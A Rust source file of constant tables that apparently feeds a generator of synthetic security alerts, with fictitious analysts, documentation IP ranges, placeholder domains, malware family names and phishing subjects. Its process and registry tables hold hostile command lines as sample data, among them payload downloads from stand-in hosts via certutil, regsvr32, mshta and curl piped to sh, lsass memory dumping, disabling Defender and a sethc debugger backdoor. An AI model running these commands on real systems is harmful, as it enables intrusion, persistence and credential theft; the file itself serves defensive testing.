//! Names to draw from. People, companies and hosts are Microsoft's fictitious samples or of their kind; public addresses are
//! MaxMind's test networks and those reserved for documentation.

/// Name of a person: given name and surname.
pub(crate) const PEOPLE: [(&str, &str); 24] = [
    ("Adele", "Vance"),
    ("Alex", "Wilber"),
    ("Alland", "Deyoung"),
    ("Bianca", "Pisani"),
    ("Cameron", "White"),
    ("Debra", "Berger"),
    ("Diego", "Siciliani"),
    ("Grady", "Archie"),
    ("Henrietta", "Mueller"),
    ("Irvin", "Sayers"),
    ("Isaiah", "Langer"),
    ("Johanna", "Lorenz"),
    ("Joni", "Sherman"),
    ("Jordan", "Miller"),
    ("Lee", "Gu"),
    ("Lidia", "Holloway"),
    ("Lynne", "Robbins"),
    ("Megan", "Bowen"),
    ("Miriam", "Graham"),
    ("Nestor", "Wilke"),
    ("Patti", "Fernandez"),
    ("Pradeep", "Gupta"),
    ("Raul", "Razo"),
    ("Zoë", "Lindqvist"),
];

const ANALYSTS: [&str; 4] =
    ["megan.bowen@contoso.com", "lee.gu@contoso.com", "joni.sherman@contoso.com", "automation@contoso.com"];

/// The analyst for an alert.
pub(crate) fn analyst(number: usize) -> &'static str {
    let [first, second, third, fourth] = ANALYSTS;
    match number % 4 {
        0 => first,
        1 => second,
        2 => third,
        _ => fourth,
    }
}

/// A public network: the first octets of its addresses, the first and last of its hosts, place and country.
pub(crate) type Network = (&'static str, (i64, i64), [&'static str; 4], [f64; 2]);

/// City, state, country, country letters, then latitude and longitude.
pub(crate) const NETWORKS: [Network; 8] = [
    ("81.2.69.", (142, 206), ["London", "England", "United Kingdom", "GB"], [51.5142, -0.0931]),
    ("89.160.20.", (112, 142), ["Linköping", "Östergötland County", "Sweden", "SE"], [58.4167, 15.6167]),
    ("175.16.199.", (1, 254), ["Changchun", "Jilin Sheng", "China", "CN"], [43.88, 125.3228]),
    ("216.160.83.", (56, 63), ["Milton", "Washington", "United States", "US"], [47.2513, -122.3149]),
    ("2.125.160.", (216, 223), ["Boxford", "England", "United Kingdom", "GB"], [51.75, -1.25]),
    ("203.0.113.", (1, 254), ["Amsterdam", "North Holland", "Netherlands", "NL"], [52.374, 4.8897]),
    ("198.51.100.", (1, 254), ["Hanoi", "Hanoi", "Vietnam", "VN"], [21.0285, 105.8542]),
    ("192.0.2.", (1, 254), ["Ashburn", "Virginia", "United States", "US"], [39.0438, -77.4874]),
];

/// Domains of mails and sites that nobody should trust.
pub(crate) const FOREIGN_DOMAINS: [&str; 10] = [
    "login-contoso.example",
    "invoices.example.net",
    "m1crosoft-support.example",
    "cdn-updates.example.org",
    "parcel-tracking.example",
    "fabrikam-billing.example.com",
    "docs-share.example.net",
    "xn--bcher-kva.example",
    "proseware.example",
    "tailspin-gifts.example.org",
];

/// Prefix of a device's name, platform, release, build.
pub(crate) type Platform = (&'static str, &'static str, &'static str, i64);

pub(crate) const PLATFORMS: [Platform; 9] = [
    ("ws", "Windows11", "24H2", 26100),
    ("ws", "Windows11", "23H2", 22631),
    ("lt", "Windows11", "25H2", 26200),
    ("lt", "Windows10", "22H2", 19045),
    ("srv", "WindowsServer2022", "21H2", 20348),
    ("srv", "WindowsServer2019", "1809", 17763),
    ("dc", "WindowsServer2022", "21H2", 20348),
    ("mac", "macOS", "15.3", 0),
    ("lnx", "Linux", "24.4", 0),
];

/// An image: name, folder, publisher, and a command line with `{user}`, `{host}` and `{hex}` in it.
pub(crate) type Image = (&'static str, &'static str, Option<&'static str>, &'static str);

const MICROSOFT: Option<&str> = Some("Microsoft Corporation");

pub(crate) const IMAGES: [Image; 14] = [
    (
        "powershell.exe",
        r"C:\Windows\System32\WindowsPowerShell\v1.0",
        MICROSOFT,
        "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA{hex}",
    ),
    (
        "powershell.exe",
        r"C:\Windows\System32\WindowsPowerShell\v1.0",
        MICROSOFT,
        r#"powershell.exe -Command "Add-MpPreference -ExclusionPath 'C:\Users\{user}\AppData\Local\Temp'""#,
    ),
    ("cmd.exe", r"C:\Windows\System32", MICROSOFT, r#""cmd.exe" /c whoami /all & net group "Domain Admins" /domain"#),
    (
        "rundll32.exe",
        r"C:\Windows\System32",
        MICROSOFT,
        r#"rundll32.exe C:\Users\{user}\AppData\Local\Temp\{hex}.dll,DllRegisterServer"#,
    ),
    (
        "regsvr32.exe",
        r"C:\Windows\SysWOW64",
        MICROSOFT,
        r"regsvr32.exe /s /u /i:http://cdn-updates.example.org/{hex}.sct scrobj.dll",
    ),
    (
        "schtasks.exe",
        r"C:\Windows\System32",
        MICROSOFT,
        r#"schtasks.exe /create /tn "OfficeUpdate" /tr "C:\Users\{user}\AppData\Roaming\updater.exe" /sc minute /mo 15"#,
    ),
    ("mshta.exe", r"C:\Windows\System32", MICROSOFT, "mshta.exe https://docs-share.example.net/{hex}.hta"),
    (
        "certutil.exe",
        r"C:\Windows\System32",
        MICROSOFT,
        r"certutil.exe -urlcache -split -f https://cdn-updates.example.org/{hex} C:\ProgramData\a.bin",
    ),
    (
        "wmic.exe",
        r"C:\Windows\System32\wbem",
        MICROSOFT,
        r#"wmic.exe /node:"{host}" process call create "cmd.exe /c C:\ProgramData\a.bat""#,
    ),
    ("updater.exe", r"C:\ProgramData\Updater", None, r#""C:\ProgramData\Updater\updater.exe" --install --id={hex}"#),
    (
        "procdump64.exe",
        r"C:\Tools",
        Some("Sysinternals - www.sysinternals.com"),
        r"procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\{hex}.dmp",
    ),
    ("svchost.exe", r"C:\Windows\System32", MICROSOFT, "svchost.exe -k netsvcs -p -s Schedule"),
    ("bash", "/usr/bin", None, "bash -c \"curl -fsSL https://cdn-updates.example.org/{hex} | sh\""),
    ("python3", "/usr/bin", None, "python3 -c \"import pty; pty.spawn('/bin/sh')\""),
];

/// What starts other processes.
pub(crate) const PARENTS: [Image; 5] = [
    ("explorer.exe", r"C:\Windows", MICROSOFT, ""),
    ("winword.exe", r"C:\Program Files\Microsoft Office\root\Office16", MICROSOFT, ""),
    ("outlook.exe", r"C:\Program Files\Microsoft Office\root\Office16", MICROSOFT, ""),
    ("services.exe", r"C:\Windows\System32", MICROSOFT, ""),
    ("wmiprvse.exe", r"C:\Windows\System32\wbem", MICROSOFT, ""),
];

/// Files that are found, with their folders; `{user}` stands for an account.
pub(crate) const FILES: [(&str, &str); 10] = [
    ("Invoice_{hex}.docm", r"C:\Users\{user}\Downloads"),
    ("Payment advice.iso", r"C:\Users\{user}\Downloads"),
    ("updater.exe", r"C:\ProgramData\Updater"),
    ("mimikatz.exe", r"C:\Users\{user}\Desktop\tools"),
    ("{hex}.dll", r"C:\Users\{user}\AppData\Local\Temp"),
    ("Résumé – Zoë.pdf.lnk", r"C:\Users\{user}\Downloads"),
    ("a.bat", r"C:\ProgramData"),
    ("Customer cards 2024.xlsx", r"C:\Users\{user}\OneDrive - Contoso\Finance"),
    ("xmrig", "/tmp/.x"),
    ("setup.pkg", "/Users/{user}/Downloads"),
];

/// Display name, category, family of a threat.
pub(crate) const THREATS: [[&str; 3]; 8] = [
    ["Trojan:Win32/Emotet.PA!MTB", "Trojan", "Emotet"],
    ["Backdoor:Win32/CobaltStrike.NP!dha", "Backdoor", "CobaltStrike"],
    ["Ransom:Win64/LockBit.A!dha", "Ransomware", "LockBit"],
    ["HackTool:Win32/Mimikatz.D", "HackTool", "Mimikatz"],
    ["TrojanDownloader:O97M/Qakbot.PAA!MTB", "TrojanDownloader", "Qakbot"],
    ["Behavior:Win32/SuspPowershell.B", "SuspiciousBehavior", "SuspPowershell"],
    ["Trojan:Linux/CoinMiner.K", "Trojan", "CoinMiner"],
    ["Virus:DOS/EICAR_Test_File", "Virus", "EICAR_Test_File"],
];

/// Actors by Microsoft's naming scheme, invented.
pub(crate) const ACTORS: [&str; 4] = ["Saffron Tempest", "Walnut Blizzard", "Storm-9999", "Copper Typhoon"];

/// Hive, key, value name, type, data of a registry value.
pub(crate) const REGISTRY: [[&str; 5]; 5] = [
    [
        "HKEY_CURRENT_USER",
        r"SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
        "OfficeUpdate",
        "String",
        r"C:\Users\{user}\AppData\Roaming\updater.exe",
    ],
    ["HKEY_LOCAL_MACHINE", r"SOFTWARE\Policies\Microsoft\Windows Defender", "DisableAntiSpyware", "Dword", "1"],
    [
        "HKEY_LOCAL_MACHINE",
        r"SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest",
        "UseLogonCredential",
        "Dword",
        "1",
    ],
    [
        "HKEY_LOCAL_MACHINE",
        r"SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe",
        "Debugger",
        "String",
        r"C:\Windows\System32\cmd.exe",
    ],
    [
        "HKEY_LOCAL_MACHINE",
        r"SYSTEM\CurrentControlSet\Services\updsvc",
        "ImagePath",
        "ExpandString",
        r"%ProgramData%\Updater\updater.exe -s",
    ],
];

/// Subjects of mails; `{hex}` stands for a number.
pub(crate) const SUBJECTS: [&str; 8] = [
    "Action required: your password expires today",
    "Invoice {hex} is overdue",
    "RE: Payroll update – please confirm",
    "You have received a shared document",
    "Ihr Paket wartet auf Sie",
    "Quarterly results (confidential)",
    "請求書の件",
    "Voicemail from +1 (555) 0100",
];

/// Name, service id in Defender for Cloud Apps.
pub(crate) const CLOUD_APPLICATIONS: [(&str, i64); 6] = [
    ("Microsoft SharePoint Online", 20892),
    ("Microsoft Exchange Online", 20893),
    ("Microsoft OneDrive for Business", 15600),
    ("Microsoft Teams", 28375),
    ("Box", 10489),
    ("Salesforce", 11114),
];

/// Browser, system, user agent.
pub(crate) const BROWSERS: [[&str; 3]; 4] = [
    [
        "Edge 133.0.0",
        "Windows 10",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36 Edg/133.0.0.0",
    ],
    ["Firefox 135.0", "Ubuntu", "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:135.0) Gecko/20100101 Firefox/135.0"],
    [
        "Mobile Safari 18.3",
        "iOS 18.3",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Mobile/15E148 Safari/604.1",
    ],
    ["python-requests 2.32", "Unknown", "python-requests/2.32.3"],
];
